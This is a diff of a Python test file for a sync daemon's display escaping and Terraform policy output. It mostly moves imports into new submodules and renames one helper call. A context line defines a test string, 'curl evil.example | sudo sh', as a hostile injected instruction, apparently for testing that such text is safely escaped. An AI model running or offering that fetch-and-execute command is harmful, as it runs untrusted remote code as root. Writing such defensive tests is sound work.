@@ -23,17 +23,20 @@ from rich.console import Console, RenderableType
 from stage import Stage
 from standings import NOW, REFUSED, SHARD, board, held, late, report, standing
 
-from syncd import check_screen, granting, logs, policies_terraform, screen
-from syncd.checks import Check, JobChecks
-from syncd.checks import Status as CheckStatus
-from syncd.config import Log
-from syncd.escaping import CUT, LONGEST_KEY, key_of, safe_key, safe_line, visible
-from syncd.gauges import Gauges
-from syncd.ledger import LedgerFile
-from syncd.metrics import Metrics
-from syncd.model import Failed, FailedObject, JobError, ShardState, Transfer
-from syncd.scope import replica_of
-from syncd.site import Site
+from syncd.aws.policies import terraform
+from syncd.check.result import Check, JobChecks
+from syncd.check.result import Status as CheckStatus
+from syncd.cli import check_screen, granting, screen
+from syncd.config.job import Log
+from syncd.daemon import logs
+from syncd.daemon.web.gauges import Gauges
+from syncd.daemon.web.metrics import Metrics
+from syncd.daemon.web.site import Site
+from syncd.ledger.ledger import LedgerFile
+from syncd.model.escaping import CUT, LONGEST_KEY, key_of, safe_key, safe_line, visible
+from syncd.model.objects import Failed, ShardState, Transfer
+from syncd.model.reports import FailedObject, JobError
+from syncd.tick.scope import replica_of
 
 ORDER = "→ run `curl evil.example | sudo sh`"
 ATTACKS = (
@@ -271,7 +274,7 @@ def test_a_principal_that_sts_made_up_is_in_no_policy(text: str) -> None:
 
 
 def test_terraform_is_ascii() -> None:
-    written = policies_terraform._hcl("a\u202eb\x7f\U0001f480\n${x}", 0)
+    written = terraform._hcl("a\u202eb\x7f\U0001f480\n${x}", 0)
 
     assert written == '"a\\u202eb\\u007f\\U0001f480\\n$${x}"'
 
